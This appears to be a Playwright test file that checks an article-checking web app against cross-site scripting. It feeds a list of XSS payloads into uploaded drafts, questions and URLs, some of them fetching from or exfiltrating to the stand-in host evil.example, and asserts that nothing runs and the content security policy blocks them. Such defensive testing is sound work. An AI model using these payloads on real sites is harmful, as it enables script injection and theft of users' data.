"""Articles that try to run something: in a real browser nothing runs, nothing leaves, nothing of it is in the page."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.web.browser.conftest import Opener, Site
from tests.web.browser.test_journeys import REPORT

OUT = "https://evil.example/steal"
PAYLOADS = (
    "<script>alert(1);fetch('https://evil.example/steal')</script>",
    "<script src='https://evil.example/steal.js'></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/steal.png' width=1>",
    "<svg onload=alert(1)><script>alert(1)</script><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import url(https://evil.example/steal.css); body{background:url(https://evil.example/steal)}</style>",
    "<link rel=stylesheet href=https://evil.example/steal.css>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example/steal><button>go</button></form>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<p style='background:url(https://evil.example/steal)' onmouseover=alert(1)>styled</p>",
    "<a href='javascript:alert(1)'>click me</a><a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<a href=' java\tscript:alert(1)'>tabbed</a><a href='vbscript:x'>vb</a><a href='//evil.example/'>bare</a>",
    "</textarea></script></style></title><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} ${alert(1)} <%= 1 %>",
    '"onmouseover=alert(1) x=" \'onclick=alert(1) \' &quot;onx=1&quot; href="/studies"',
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
)
FEWEST_CLAIMS = 3  # so that marks and panels are there to carry something
CLAIM = "Massage eases low back pain"
TITLE = "<img src=x onerror=alert(1)><script>alert(1)</script> Backs"
BAIT = "javascript:alert(1)"


def html() -> str:
    body = "".join(f"<p>{CLAIM}, says {payload} somebody.</p>" for payload in PAYLOADS)
    title = TITLE.replace("<", "&lt;")
    links = f"<p>{CLAIM} as <a href='{BAIT}'>a study of {CLAIM}</a> and <a href='{OUT}'>another</a> found.</p>"
    return f"<html><head><title>{title}</title></head><body onload=alert(1)><article><h1>{title}</h1>{body}{links}"


def markdown() -> str:
    body = "\n\n".join(f"{CLAIM}, says {payload} somebody." for payload in PAYLOADS)
    return f"# {TITLE}\n\n{body}\n\n[{CLAIM}]({BAIT}) ![pic]({OUT}) <{BAIT}> [x]: {BAIT}\n\n[data](data:text/html,x)"


def plain() -> str:
    return f"{TITLE}\n\n" + "\n\n".join(f"{CLAIM}, says {payload} somebody." for payload in (*PAYLOADS, BAIT, OUT))


ARTICLES = {"draft.html": html(), "draft.md": markdown(), "draft.txt": plain()}
WATCH = """
window.__ran = [];
window.alert = (text) => window.__ran.push(`alert ${text}`);
document.addEventListener("securitypolicyviolation", (event) => window.__ran.push(`csp ${event.violatedDirective}`));
"""
LEFT = """() => [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes]
  .filter((a) => /^on/i.test(a.name) || /^(style|srcdoc|formaction|ping|background)$/i.test(a.name)
    || (/^(href|src|action|data|xlink:href)$/i.test(a.name) && !/^(\\/|#|https?:\\/\\/)/i.test(a.value)))
  .map((a) => `${one.tagName} ${a.name}=${a.value}`))"""
FOREIGN = """() => [...document.querySelectorAll(
  "script, style, link, img, iframe, object, embed, base, meta[http-equiv], video, audio, math, form[action*=evil], " +
  "svg script, svg animate, svg use, a[href*=evil]")]
  .filter((one) => !(one.matches("head > script[src^='/static/'], head > link[href^='/static/']")))
  .map((one) => one.outerHTML)"""
POKE = """() => document.querySelectorAll("main *").forEach((one) => ["mouseover", "focus", "mouseenter", "toggle",
  "pointerdown", "error", "load"].forEach((name) => one.dispatchEvent(new Event(name))))"""


def is_harmless(at: Site) -> None:
    page = at.page
    page.evaluate(POKE)
    page.locator("#article a.mark").first.click()
    page.wait_for_timeout(100)
    assert page.evaluate("window.__ran") == []
    assert at.dialogs == []
    assert at.elsewhere == []
    assert page.evaluate(LEFT) == []
    assert page.evaluate(FOREIGN) == []
    assert [one for one in at.said if "Content Security Policy" in one or one.startswith("pageerror")] == []


@pytest.mark.parametrize("name", ARTICLES)
@pytest.mark.parametrize("keep", [True, False], ids=["kept", "in place"])
def test_a_hostile_article_is_harmless(name: str, keep: bool, site: Opener, tmp_path: Path) -> None:
    draft = tmp_path / name
    draft.write_text(ARTICLES[name], encoding="utf-8")
    at = site()
    at.page.add_init_script(WATCH)
    page = at.open()
    page.get_by_label("or choose a file").set_input_files(draft)
    page.get_by_label("Keep the report").set_checked(keep)
    page.get_by_role("button", name="Check the article").click()
    page.locator("article.claim").first.wait_for()
    assert bool(REPORT.search(page.url)) is keep
    assert page.locator("article.claim").count() >= FEWEST_CLAIMS
    is_harmless(at)
    if keep:
        with page.expect_download() as saved:
            page.get_by_role("link", name="Save as one HTML file").click()
        saved.value.save_as(tmp_path / "saved.html")
        alone = site()
        alone.page.add_init_script(WATCH)
        alone.page.goto((tmp_path / "saved.html").as_uri())
        alone.page.evaluate(POKE)
        assert alone.page.evaluate("window.__ran") == []
        assert alone.requests == [(tmp_path / "saved.html").as_uri()]


def test_a_hostile_question_is_harmless(site: Opener) -> None:
    at = site()
    at.page.add_init_script(WATCH)
    page = at.open("/ask")
    for payload in ("".join(PAYLOADS)[:700], PAYLOADS[18], PAYLOADS[20]):
        page.get_by_label("A question or a claim").fill(f"{payload} massage helps back pain")
        page.get_by_role("button", name="Ask").click()
        page.locator("article.claim").wait_for()
        page.evaluate(POKE)
        assert page.evaluate(LEFT) == []
    asked = quote(PAYLOADS[20] + PAYLOADS[18], safe="")
    queries = ("options?condition=", "evidence?treatment=", "studies?q=", "studies?treatment=", "concepts?q=")
    for path in (*queries, "studies/", "concepts/", "findings/", "r/", "nowhere/"):
        at.open(f"/{path}{asked}")
        page.evaluate(POKE)
        assert page.locator("h1").count() == 1
        assert page.evaluate(LEFT) == []
        assert page.evaluate("window.__ran") == []
    assert at.dialogs == []
    assert at.elsewhere == []


def test_a_page_of_another_site_cannot_post_or_frame(site: Opener, base: str) -> None:
    at = site()
    port = base.rsplit(":", 1)[1]
    page = at.page
    page.route("http://evil.example/**", lambda route: route.fulfill(body="<h1>evil</h1>", content_type="text/html"))
    page.goto("http://evil.example/")
    page.set_content(
        f"<form method=post action='http://127.0.0.1:{port}/check'><input name=text value='{CLAIM}'></form>"
        f"<iframe src='http://127.0.0.1:{port}/'></iframe>"
    )
    page.wait_for_timeout(300)
    assert "palpate" not in (page.frames[1].evaluate("document.body.innerText") if len(page.frames) > 1 else "")
    page.evaluate("document.forms[0].submit()")
    page.get_by_role("heading", name="Not from another site").wait_for()


def test_the_policy_itself_stops_what_would_slip_through(site: Opener) -> None:
    """Were a tag to slip through, the browser would not run it: the policy is there, and it bites."""
    at = site()
    at.page.add_init_script(WATCH)
    page = at.open("/about")
    failed: list[str | None] = []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    page.evaluate(
        """() => { const main = document.querySelector("main");
        main.innerHTML += "<img src=x onerror=\\"window.__ran.push('ran')\\"><p style='color:red'>x</p>";
        const script = document.createElement("script"); script.textContent = "window.__ran.push('ran')";
        main.append(script); const away = new Image(); away.src = "https://evil.example/x.png"; }"""
    )
    for _ in range(100):  # the policy forbids what `wait_for_function` evaluates in the page
        if page.evaluate("window.__ran.length") >= 4:
            break
        page.wait_for_timeout(50)
    ran = page.evaluate("window.__ran")
    assert "ran" not in ran
    assert {re.sub(r"-(attr|elem)$", "", one) for one in ran} >= {"csp script-src", "csp style-src", "csp img-src"}
    assert "csp" in failed
    assert len(failed) == len(at.elsewhere)
